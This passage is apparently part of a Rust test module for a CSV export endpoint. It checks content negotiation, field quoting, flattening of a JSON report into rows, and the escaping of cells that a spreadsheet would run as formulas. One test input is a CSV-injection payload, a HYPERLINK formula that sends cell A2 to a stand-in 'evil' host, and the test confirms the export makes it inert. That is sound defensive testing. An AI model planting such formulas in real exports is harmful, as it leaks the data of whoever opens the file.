        assert!(asking("text/csv"));
        assert!(asking("text/csv, application/json"));
        assert!(asking("application/json;q=0.5, text/csv"));
        assert!(!asking("application/json, text/csv;q=0.9"));
        assert!(!asking("text/csv;q=0"));
        assert!(!asking("*/*"));
        assert!(!wants_csv(&TestRequest::get().to_http_request()));
    }

    #[test]
    fn csv_fields_are_quoted_when_they_must_be() {
        let response =
            csv_response(&["name", "value"], [vec!["a,b".to_string(), "say \"hi\"".to_string()]].into_iter());
        let body = response.into_body().try_into_bytes().unwrap_or_default();
        assert_eq!(&body[..], b"name,value\r\n\"a,b\",\"say \"\"hi\"\"\"\r\n");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_made_text() {
        let rows = [vec![
            "=HYPERLINK(\"https://evil/?\"&A2,\"x\")".to_string(),
            "+1+1".into(),
            "-2+3".into(),
            "@SUM(A1)".into(),
            "\tx".into(),
            "-12.50".into(),
            "Ada".into(),
        ]];
        let response = csv_response(&["a", "b", "c", "d", "e", "f", "g"], rows.into_iter());
        let body = response.into_body().try_into_bytes().unwrap_or_default();
        let text = String::from_utf8_lossy(&body);
        let cells = text.lines().nth(1).unwrap_or_default();
        assert_eq!(cells, "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"x\"\")\",'+1+1,'-2+3,'@SUM(A1),'\tx,-12.50,Ada");
    }

    #[test]
    fn a_report_flattens_to_named_rows() {
        let report = serde_json::json!({"revenue": "1.00", "growth_percent": null, "stock": {"low": 2},
            "by_plan": [{"key": "basic", "orders": 3}], "methods": [{"method": "cash", "amount": "4.00"}]});
        let rows = flatten(&report);
        let find = |name: &str| rows.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
        assert_eq!(find("revenue"), Some("1.00"));
        assert_eq!(find("growth_percent"), Some(""));
        assert_eq!(find("stock.low"), Some("2"));
        assert_eq!(find("by_plan.basic.orders"), Some("3"));
        assert_eq!(find("methods.cash.amount"), Some("4.00"));
    }
}
